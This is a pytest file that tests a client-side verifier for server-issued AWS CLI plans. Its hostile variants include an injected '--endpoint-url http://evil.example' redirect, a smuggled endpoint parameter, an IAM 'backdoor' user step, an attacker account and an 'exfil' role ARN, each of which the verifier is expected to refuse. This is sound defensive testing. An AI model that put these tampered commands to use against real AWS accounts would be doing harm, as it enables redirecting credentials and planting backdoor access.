@@ -1,0 +1,213 @@
+"""The client's check of every plan (app/execution/verify.py): a plan is only (service, operation,
+parameters, account, region); every other claim is re-derived and a lie refuses the plan. Each hostile
+variant below starts from the real planner's honest plan and changes one thing; the real planner's own
+plans over every evaluation set pass unchanged, so an honest server is never second-guessed."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from agent.evaluation import load_cases, request_for
+from agent.playbook import default_playbook_dir, load_playbooks
+from agent.protocol import PlanRequest, PlanResponse, Step
+from app.execution.verify import PlanRefused, TrustContext, verify_plan
+from conftest import EVAL_DIR, ROOT
+
+ACCOUNTS = [{"account_id": "111111111111", "name": "production", "profile": "prod", "regions": ["us-west-2"]},
+            {"account_id": "222222222222", "name": "staging", "profile": "staging", "regions": ["us-west-2"]}]
+PLAYBOOKS = {lp.playbook.id: lp.playbook for lp in load_playbooks(default_playbook_dir())}
+
+
+def resource(name: str, **extra) -> dict:
+    base = {"resource_type": "rds_db_instance", "resource_id": name, "name": name, "account_id": "111111111111",
+            "account_name": "production", "region": "us-west-2", "current_state": "available", "engine": "postgres",
+            "arn": f"arn:aws:rds:us-west-2:111111111111:db:{name}", "multi_az": True,
+            "tags": {"env": "production"}, "relations": {"read_replicas": []}}
+    return {**base, **extra}
+
+
+@pytest.fixture
+def honest(planner):
+    """The honest server's plan for 'Stop pg-instance-main1', and the client's trust context."""
+    request = PlanRequest(prompt="Stop pg-instance-main1", identified_resources=[resource("pg-instance-main1")],
+                          user_context={"aws_accounts": ACCOUNTS})
+    plan = planner.plan(request)
+    plan.served_by = "server"
+    trust = TrustContext(resources=request.identified_resources, accounts=request.user_context.aws_accounts,
+                         playbooks=PLAYBOOKS)
+    return plan, trust
+
+
+def _step(plan: PlanResponse, **changes) -> PlanResponse:
+    data = json.loads(plan.model_dump_json())
+    data["script"]["steps"][0].update(changes)
+    return PlanResponse.model_validate(data)
+
+
+def _rendered(service, operation, params, region="us-west-2", profile="prod") -> dict:
+    from agent import aws_models
+
+    argv = aws_models.render_cli(service, operation, params, region, profile)
+    return {"service": service, "operation": operation, "parameters": params, "argv": argv,
+            "command": aws_models.command_line(argv), "region": region, "profile": profile}
+
+
+def test_the_honest_plan_passes_and_is_re_derived(honest):
+    plan, trust = honest
+    checked = verify_plan(plan, trust)
+    step = checked.script.steps[0]
+    assert checked.checked_by == "client" and step.access == "write" and step.mutating
+    assert checked.approval_required and checked.plan_hash and step.targets == ["pg-instance-main1"]
+    assert checked.confirmation.phrase == "pg-instance-main1"  # a change to production: the name is typed
+    assert "Checked by this client" in checked.explain_plan
+
+
+def test_a_write_called_read_only_is_refused(honest):
+    plan, trust = honest
+    lie = _step(plan, mutating=False, **_rendered("rds", "DeleteDBInstance",
+                                                   {"DBInstanceIdentifier": "pg-instance-main1", "SkipFinalSnapshot": True}))
+    lie.approval_required, lie.risk_assessment.level = False, "low"
+    with pytest.raises(PlanRefused, match="read-only"):
+        verify_plan(lie, trust)
+
+
+def test_what_is_shown_must_be_what_runs(honest):
+    plan, trust = honest
+    step = plan.script.steps[0]
+    injected = _step(plan, argv=step.argv + ["--endpoint-url", "http://evil.example"],
+                     command=step.command + " --endpoint-url http://evil.example")
+    with pytest.raises(PlanRefused, match="command shown"):
+        verify_plan(injected, trust)
+    hidden = _step(plan, command="aws rds describe-db-instances --region us-west-2")  # argv honest, text not
+    with pytest.raises(PlanRefused, match="command shown"):
+        verify_plan(hidden, trust)
+
+
+def test_parameters_naming_another_resource_are_refused(honest, planner):
+    plan, trust = honest
+    swapped = _step(plan, **_rendered("rds", "StopDBInstance", {"DBInstanceIdentifier": "billing-mysql"}))
+    with pytest.raises(PlanRefused, match="did not identify"):
+        verify_plan(swapped, trust)
+    # billing-mysql identified too, but the step still says it acts on pg-instance-main1
+    trust.resources.append(PlanRequest.model_validate({"prompt": "x", "identified_resources": [
+        resource("billing-mysql")]}).identified_resources[0])
+    with pytest.raises(PlanRefused, match="says it acts on pg-instance-main1"):
+        verify_plan(swapped, trust)
+
+
+@pytest.mark.parametrize("params, says", [
+    ({"DBInstanceIdentifier": "pg-instance-main1", "endpoint_url": "http://evil.example"}, "no parameter 'endpoint_url'"),
+    ({"DBInstanceIdentifier": 7}, "not valid"),
+    ({"DBInstanceIdentifier": ["pg-instance-main1"]}, "not valid"),
+], ids=["endpoint_url", "wrong-type", "list-for-string"])
+def test_parameters_must_be_valid_members(honest, params, says):
+    plan, trust = honest
+    with pytest.raises(PlanRefused, match=says):
+        verify_plan(_step(plan, parameters=params), trust)
+
+
+def test_an_extra_step_without_targets_that_names_nothing_still_needs_approval(honest):
+    plan, trust = honest
+    data = json.loads(plan.model_dump_json())
+    extra = {**data["script"]["steps"][0], **_rendered("iam", "CreateUser", {"UserName": "backdoor"}),
+             "step_id": "step-2", "targets": [], "mutating": True, "waiter": None}
+    data["script"]["steps"].append(extra)
+    checked = verify_plan(PlanResponse.model_validate(data), trust)
+    assert checked.approval_required and checked.script.steps[1].access.startswith("permissions")
+    assert "iam CreateUser" in checked.explain_plan  # shown to the operator, never hidden
+    # An approval-free plan is never produced from it: even a server claiming no approval is overruled.
+    data["approval_required"] = False
+    assert verify_plan(PlanResponse.model_validate(data), trust).approval_required
+
+
+@pytest.mark.parametrize("changes, says", [
+    ({"region": "eu-west-1"}, "eu-west-1"),
+    ({"account_id": "999999999999", "account_name": "attacker"}, "not a configured account"),
+    ({"account_id": "222222222222", "account_name": "staging", "profile": "staging"}, "is in production"),
+    ({"profile": "admin"}, "profile 'admin'"),
+    ({"service": "secretsmanager", "operation": "GetSecretValue"}, "no parameter"),
+    ({"service": "route53", "operation": "DeleteHostedZone"}, "does not run"),
+    ({"operation": "StopEverything"}, "no operation"),
+    ({"waiter": "db_instance_deleted_forever"}, "waits with"),
+    ({"targets": []}, "says it acts on nothing"),
+], ids=["region", "foreign-account", "other-account", "profile", "params-of-other-op", "service", "operation",
+        "waiter", "targets-hidden"])
+def test_each_claim_is_checked(honest, changes, says):
+    plan, trust = honest
+    with pytest.raises(PlanRefused, match=says):
+        verify_plan(_step(plan, **changes), trust)
+
+
+def test_an_arn_of_an_account_that_is_not_configured_is_refused(honest):
+    plan, trust = honest
+    params = {"DBSnapshotIdentifier": "pg-instance-main1-copy", "DBInstanceIdentifier": "pg-instance-main1",
+              "Tags": [{"Key": "owner", "Value": "arn:aws:iam::999999999999:role/exfil"}]}
+    with pytest.raises(PlanRefused, match="999999999999"):
+        verify_plan(_step(plan, **_rendered("rds", "CreateDBSnapshot", params), waiter=None), trust)
+
+
+def test_sensitive_reads_need_approval(honest):
+    plan, trust = honest
+    read = _step(plan, mutating=False, waiter=None,
+                 **_rendered("lambda", "GetFunction", {"FunctionName": "pg-instance-main1"}))
+    with pytest.raises(PlanRefused):  # a function the lookup did not identify
+        verify_plan(read, trust)
+    trust.resources.append(PlanRequest.model_validate({"prompt": "x", "identified_resources": [
+        {"resource_type": "lambda_function", "resource_id": "nightly", "name": "nightly", "account_id": "111111111111",
+         "account_name": "production", "region": "us-west-2",
+         "arn": "arn:aws:lambda:us-west-2:111111111111:function:nightly"}]}).identified_resources[0])
+    read = _step(plan, mutating=False, waiter=None, targets=["nightly"],
+                 **_rendered("lambda", "GetFunction", {"FunctionName": "nightly"}))
+    read.approval_required = False
+    checked = verify_plan(read, trust)
+    assert checked.approval_required and "sensitive" in checked.script.steps[0].access
+
+
+def test_the_stricter_risk_wins_and_both_are_shown(honest):
+    plan, trust = honest
+    plan.risk_assessment.level = "low"
+    checked = verify_plan(plan, trust)
+    assert checked.risk_assessment.level == "medium" and checked.risk_assessment.local_level == "medium"
+    assert checked.risk_assessment.remote_level == "low"
+    plan.risk_assessment.level = "critical"
+    assert verify_plan(plan, trust).risk_assessment.level == "critical"
+
+
+def test_local_deny_rules_apply_to_server_plans(honest):
+    from agent.protocol import DenyRule
+
+    plan, trust = honest
+    trust.deny_rules = [DenyRule(reason="no production stops", operations=["Stop*"], production=True)]
+    checked = verify_plan(plan, trust)
+    assert checked.risk_assessment.denied and checked.script.steps[0].denied_by == ["no production stops"]
+
+
+def test_stale_data_needs_an_acknowledgement(honest):
+    plan, trust = honest
+    trust.freshness = lambda r: f"{r.display_name}: the last sync of production/us-west-2/rds failed"
+    checked = verify_plan(plan, trust)
+    assert "failed" in checked.confirmation.stale and any("out of date" in w for w in checked.warnings)
+
+
+def _all_eval_plans(planner, directory, cases_file="plan_cases.yaml"):
+    estate, cases = load_cases(directory, cases_file)
+    for case in cases:
+        request = request_for(case, estate)
+        yield request, planner.plan(request)
+
+
+@pytest.mark.parametrize("directory, cases_file", [(EVAL_DIR, "plan_cases.yaml"), (EVAL_DIR, "holdout_cases.yaml"),
+                                                   (ROOT / "tests" / "eval_holdout2", "plan_cases.yaml")])
+def test_the_real_planner_passes_the_check_on_every_evaluation_plan(planner, directory, cases_file):
+    if not (directory / cases_file).exists():
+        pytest.skip(f"no {cases_file} in {directory}")
+    steps = 0
+    for request, response in _all_eval_plans(planner, directory, cases_file):
+        trust = TrustContext(resources=request.identified_resources, accounts=request.user_context.aws_accounts,
+                             playbooks=PLAYBOOKS)
+        checked = verify_plan(response, trust)  # raises PlanRefused on a false positive
+        assert checked.approval_required == response.approval_required, request.prompt
+        steps += len(checked.script.steps)
+    assert steps > 20
